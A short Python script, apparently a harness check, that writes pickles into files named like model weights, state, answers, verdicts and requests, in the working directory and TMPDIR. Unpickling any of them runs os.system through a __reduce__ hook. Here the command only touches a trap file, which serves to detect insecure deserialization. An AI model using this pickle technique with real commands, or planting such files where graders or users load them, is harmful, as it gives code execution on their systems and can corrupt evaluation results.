"""Puts pickles that act wherever something of ours could read them."""
# as: check run
# by: wire
import os, pickle
class Act:
    def __reduce__(self):
        return os.system, ("touch " + __import__("prelude").PLACES["trap"],)
data = pickle.dumps(Act())
for name in ("model.pt", "state.pkl", "answers", "verdict.json", "events.jsonl", "request.json"):
    with open(name, "wb") as file:
        file.write(data)
    with open(os.path.join(os.environ["TMPDIR"], name), "wb") as file:
        file.write(data)
def answer(x):
    return Act()
